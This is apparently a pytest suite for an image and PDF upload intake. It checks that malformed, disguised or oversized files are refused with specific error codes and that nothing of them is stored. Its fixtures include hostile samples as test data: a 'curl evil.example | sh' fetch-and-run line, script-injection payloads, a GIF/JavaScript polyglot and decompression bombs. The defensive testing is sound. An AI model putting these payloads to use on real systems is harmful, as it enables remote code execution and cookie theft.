"""Files that are not taken: each gets its own code, status and sentence, and nothing of it is stored."""

import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from redress.evidence import Accepted, EvidenceError, Intake, Storage, open_storage, receive
from redress.evidence.decoder import DecoderProcesses
from redress.evidence.limits import SUFFIXES
from redress.evidence.sniff import sniff
from tests.evidence import samples
from tests.evidence.conftest import Take

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF_AND_SCRIPT = b"GIF89a/*" + bytes(200) + b"*/=1;alert(document.cookie)"
MANY = 60_000

BAD = {
    "nothing": (b"", "empty", 422),
    "a script renamed photo.jpg": (b"#!/bin/sh\ncurl evil.example | sh\n", "unsupported_type", 415),
    "a page renamed photo.jpg": (b"<!doctype html><script>alert(1)</script>", "unsupported_type", 415),
    "a GIF that is also a script": (GIF_AND_SCRIPT, "unsupported_type", 415),
    "a GIF": (samples.encoded(Image.new("P", (700, 700)), "GIF"), "unsupported_type", 415),
    "an SVG": (SVG, "unsupported_type", 415),
    "a TIFF": (samples.encoded(Image.new("L", (700, 700)), "TIFF"), "unsupported_type", 415),
    "an AVIF": (samples.encoded(Image.new("RGB", (64, 64)), "AVIF"), "unsupported_type", 415),
    "a program": (b"\x7fELF" + bytes(500), "unsupported_type", 415),
    "a zip archive": (b"PK\x03\x04" + bytes(500), "unsupported_type", 415),
    "only a signature": (b"\xff\xd8\xff\xe0", "broken", 422),
    "a JPEG's head before a script": (b"\xff\xd8\xff<script>alert(1)</script>", "broken", 422),
    "half a JPEG": (samples.encoded(samples.scene())[:40_000], "broken", 422),
    "half a PNG": (samples.encoded(samples.scene(), "PNG")[:20_000], "broken", 422),
    "half a WebP": (samples.encoded(samples.scene(), "WEBP")[:20_000], "broken", 422),
    "half a HEIC": (samples.encoded(samples.scene(), "HEIF")[:20_000], "broken", 422),
    "a PNG without its pixels": (samples.png(700, 700, b""), "broken", 422),
    "a bomb that says so": (samples.png(MANY, MANY, bytes(MANY // 8 * 100)), "too_many_pixels", 413),
    "a bomb of 51 megapixels": (samples.png(5_100, 10_000, bytes((5_100 // 8 + 2) * 10_000)), "too_many_pixels", 413),
    "a JPEG of 65,500 pixels a side": (
        samples.encoded(Image.new("L", (16, 16))).replace(b"\x00\x10\x00\x10\x01", b"\xff\xdc\xff\xdc\x01"),
        "too_many_pixels",
        413,
    ),
    "a WebP of 16,000 pixels a side": (
        samples.encoded(Image.new("RGBA", (16, 16), (1, 2, 3, 4)), "WEBP", exif=samples.exif()).replace(
            b"\x0f\x00\x00\x0f\x00\x00", b"\x7f\x3e\x00\x7f\x3e\x00", 1
        ),
        "too_many_pixels",
        413,
    ),
    "a locked PDF": (samples.ENCRYPTED_PDF, "encrypted", 422),
    "a PDF of 21 pages": (samples.pdf(21), "too_many_pages", 422),
    "half a PDF": (samples.pdf(2)[:3_000], "broken", 422),
    "a PDF in name only": (b"%PDF-1.7\nnothing here", "broken", 422),
}


@pytest.mark.parametrize(("content", "code", "status"), BAD.values(), ids=BAD)
def test_it_is_refused_with_a_sentence_and_leaves_nothing(
    decoder: DecoderProcesses, tmp_path: Path, content: bytes, code: str, status: int
) -> None:
    intake = Intake(open_storage(str(tmp_path / "kept")), decoder)
    with pytest.raises(EvidenceError) as refused, receive([content], tmp_path / "incoming") as upload:
        intake.accept(upload)
    assert (refused.value.code, refused.value.status, refused.value.field) == (code, status, "file")
    assert refused.value.message.endswith(".")
    assert "{" not in refused.value.message
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]
    intake.close()


def test_a_bomb_is_refused_before_it_is_decoded(take: Take) -> None:
    bomb = samples.png(MANY, MANY, bytes(MANY // 8 * MANY))  # 450 MB of zeros, well packed
    began = time.perf_counter()
    with pytest.raises(EvidenceError, match="50 megapixels"):
        take(bomb)
    assert time.perf_counter() - began < 5.0  # to decode it takes a minute


def test_fifty_megapixels_are_still_taken(take: Take) -> None:
    accepted = take(samples.encoded(Image.new("L", (8_000, 6_250)), quality=20))
    assert accepted.width * accepted.height == 50_000_000


def test_a_photo_that_is_also_something_else_is_kept_as_the_photo_alone(take: Take, storage: Storage) -> None:
    accepted = take(samples.encoded(samples.scene()) + b"<script>alert(1)</script>PK\x05\x06" + bytes(18))
    with storage.open(accepted.view) as view:
        content = view.read()
    assert content.endswith(b"\xff\xd9")
    assert b"script" not in content


def outcome(step: Callable[[bytes], Any], content: bytes) -> Any:
    """What `step` gives, or the code with which it refuses."""
    try:
        return step(content)
    except EvidenceError as error:
        return error.code


@given(st.binary(max_size=100))
def test_whatever_the_bytes_they_have_a_type_or_are_refused_as_such(head: bytes) -> None:
    assert outcome(sniff, head) in {*SUFFIXES, "unsupported_type"}


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP", "HEIF", "PDF"])
def test_damage_anywhere_ends_in_a_refusal_or_in_a_picture_never_otherwise(take: Take, form: str) -> None:
    good = samples.pdf() if form == "PDF" else samples.encoded(samples.scene(size=(160, 120)), form)

    @settings(max_examples=40, deadline=None)
    @given(st.integers(0, len(good) - 1), st.binary(max_size=8), st.booleans())
    def damage(at: int, garbage: bytes, cut: bool) -> None:
        content = good[:at] + garbage + (b"" if cut else good[at + len(garbage) :])
        result = outcome(take, content)
        assert isinstance(result, Accepted) or result in {
            "empty",
            "unsupported_type",
            "broken",
            "too_many_pixels",
            "encrypted",
        }

    damage()
    assert take(good).width > 0
